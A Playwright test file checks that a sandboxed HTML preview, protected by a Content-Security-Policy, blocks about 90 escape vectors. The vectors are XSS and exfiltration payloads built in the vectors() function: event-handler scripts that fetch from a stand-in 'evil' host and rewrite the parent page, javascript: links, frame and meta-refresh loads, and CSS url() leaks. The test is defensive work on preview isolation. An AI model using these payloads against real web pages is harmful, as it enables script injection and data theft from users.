import { createServer as createHttpServer } from 'node:http';
import { createServer as createTcpServer, type Server } from 'node:net';
import { expect, test } from '@playwright/test';
import { systemClock } from '../../src-main/base/clock.ts';
import { policyText, previewPolicy } from '../../src-main/hosts/content-security-policy.ts';
import { createPreviewCache } from '../../src-main/templates/preview-cache.ts';

async function listen(server: Server): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  return typeof address === 'object' && address !== null ? address.port : 0;
}

/** Ways out of a page, or into its parent, each a document of its own. */
function vectors(evil: string): string[] {
  const url = (name: string) => `${evil}/${name}`;
  const script = `fetch('${url('js')}');parent.document.title='hacked';top.location='${evil}'`;
  const events = ['onload', 'onerror', 'onfocus', 'onanimationstart', 'ontoggle', 'onbegin', 'onpageshow'];
  const holders = [
    (event: string) => `<body ${event}="${script}">`,
    (event: string) => `<img src="x:x" ${event}="${script}">`,
    (event: string) =>
      `<svg ${event}="${script}"><animate attributeName=x dur=1s ${event}="${script}"/></svg>`,
    (event: string) => `<input autofocus ${event}="${script}"><details open ${event}="${script}">a</details>`,
  ];
  const loads = [
    ...['img', 'video', 'audio', 'source', 'track', 'embed', 'iframe', 'frame', 'input type=image'].map(
      (tag) => `<${tag} src="${url('src')}"></${tag}>`,
    ),
    ...['IFRAME', 'iFrAmE/', 'iframe\n', 'iframe\t', 'iframe\f'].map(
      (tag) => `<${tag} src="${url('frame')}"></iframe>`,
    ),
    ...[
      'stylesheet',
      'preconnect',
      'dns-prefetch',
      'prefetch',
      'preload',
      'prerender',
      'icon',
      'manifest',
    ].map((rel) => `<link rel="${rel}" as="image" href="${url('link')}">`),
    `<link rel=modulepreload HREF="${url('module')}">`,
    `<img srcset="${url('set')} 2x">`,
    `<picture><source srcset="${url('set')}"><img></picture>`,
    `<video poster="${url('poster')}"></video>`,
    `<object data="${url('object')}"></object>`,
    `<applet code="${url('applet')}"></applet>`,
    `<portal src="${url('portal')}"></portal>`,
    `<fencedframe src="${url('fenced')}"></fencedframe>`,
    `<frameset><frame src="${url('frameset')}"></frameset>`,
    `<iframe srcdoc="<img src=${url('srcdoc')}>"></iframe>`,
    `<iframe srcdoc="&lt;script>${script}&lt;/script>"></iframe>`,
    `<body background="${url('background')}">`,
    `<table background="${url('table')}"><td background="${url('cell')}">a</table>`,
    `<meta http-equiv=refresh content="0;url=${url('refresh')}">`,
    `<meta http-equiv=Content-Security-Policy content="default-src *"><img src="${url('policy')}">`,
    `<meta http-equiv=Link content="<${url('metalink')}>; rel=preload; as=image">`,
    `<base href="${evil}/"><img src="based">`,
    `<script src="${url('script')}"></script>`,
    `<script>${script}</script>`,
    `<script type=module>import '${url('import')}'</script>`,
    `<script type=importmap>{"imports":{"a":"${url('map')}"}}</script><script type=module>import 'a'</script>`,
    `<script type=speculationrules>{"prefetch":[{"urls":["${url('speculation')}"]}]}</script>`,
    `<svg><image href="${url('image')}"/></svg>`,
    `<svg><image xlink:href="${url('xlink')}"/></svg>`,
    `<svg><use href="${url('use')}#a"/></svg>`,
    `<svg><script href="${url('svgscript')}"></script></svg>`,
    `<svg><foreignObject><iframe src="${url('foreign')}"></iframe></foreignObject></svg>`,
    `<svg><filter id=f><feImage href="${url('filter')}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
    `<math href="${url('math')}"><mtext><img src="${url('mathimg')}"></mtext></math>`,
    `<noscript><img src="${url('noscript')}"></noscript>`,
    `<template><img src="${url('template')}"></template>`,
    `<!--[if IE]><img src="${url('comment')}"><![endif]--><img src="${url('after')}">`,
    `<marquee behavior=alternate onstart="${script}">a</marquee>`,
    `<form action="${url('form')}"><input autofocus formaction="${url('formaction')}"></form>`,
    `<a href="javascript:${script}" autofocus>a</a>`,
    `<a ping="${url('ping')}" href="${url('a')}">a</a>`,
    `<isindex action="${url('isindex')}">`,
    `<bgsound src="${url('sound')}">`,
    `<html manifest="${url('cache')}">`,
    `<template shadowrootmode=open><img src="${url('shadow')}"></template>`,
  ];
  const styles = [
    `@import url(${url('import')});`,
    `@import "${url('import')}" supports(display:grid);`,
    `@font-face{font-family:x;src:url(${url('font')})}body{font-family:x}`,
    `body{background:url(${url('bg')})}`,
    `body{background:\\75rl(${url('escaped')})}`,
    `body{background:image-set("${url('set')}" 1x)}`,
    `body{background:-webkit-image-set(url(${url('wset')}) 1x)}`,
    `body{cursor:url(${url('cursor')}),auto}`,
    `li{list-style:url(${url('list')})}`,
    `body::before{content:url(${url('content')})}`,
    `body{border-image:url(${url('border')})}`,
    `body{mask:url(${url('mask')})}`,
    `body{filter:url(${url('filter')}#f)}`,
    `body{clip-path:url(${url('clip')}#c)}`,
    `body{shape-outside:url(${url('shape')})}`,
  ].map((css) => `<style>${css}</style><ul><li>a</ul>`);
  return [...events.flatMap((event) => holders.map((hold) => hold(event))), ...loads, ...styles];
}

// A way out that was found stays found.
test.describe.configure({ retries: 0 });

// Promise: preview-reaches-nothing
test('90 ways out of the preview lead nowhere: no connection, no script, no other page', async ({ page }) => {
  let connections = 0;
  const evilServer = createTcpServer((socket) => {
    connections += 1;
    socket.destroy();
  });
  const evil = `http://127.0.0.1:${await listen(evilServer)}`;
  const previews = createPreviewCache(systemClock);
  const host = createHttpServer((request, response) => {
    const preview = previews.take(request.url ?? '');
    response.setHeader('Content-Type', 'text/html; charset=utf-8');
    if (preview !== null) {
      response.setHeader('Content-Security-Policy', policyText(previewPolicy));
      response.setHeader('X-DNS-Prefetch-Control', 'off');
    }
    response.end(preview ?? '<!doctype html><title>ours</title><iframe sandbox="" title="preview"></iframe>');
  });
  const origin = `http://127.0.0.1:${await listen(host)}`;
  try {
    await page.goto(origin);
    const all = vectors(evil);
    expect(all.length).toBeGreaterThanOrEqual(90);
    for (const vector of all) {
      const path = previews.put(`<p id=shown>shown</p>${vector}`);
      await page.locator('iframe').evaluate(
        (frame, src) =>
          new Promise<void>((resolve) => {
            frame.addEventListener('load', () => resolve(), { once: true });
            frame.setAttribute('src', src);
          }),
        path,
      );
      expect(connections, vector).toBe(0);
    }
    expect(await page.title()).toBe('ours');
    expect(page.url()).toBe(`${origin}/`);
    expect(page.context().pages()).toHaveLength(1);
    // What would have been seen: the same frame without the preview's policy.
    await page.locator('iframe').evaluate((frame, src) => {
      frame.setAttribute('srcdoc', `<img src="${src}">`);
    }, evil);
    await expect.poll(() => connections).toBeGreaterThan(0);
  } finally {
    evilServer.close();
    host.close();
    host.closeAllConnections();
  }
});
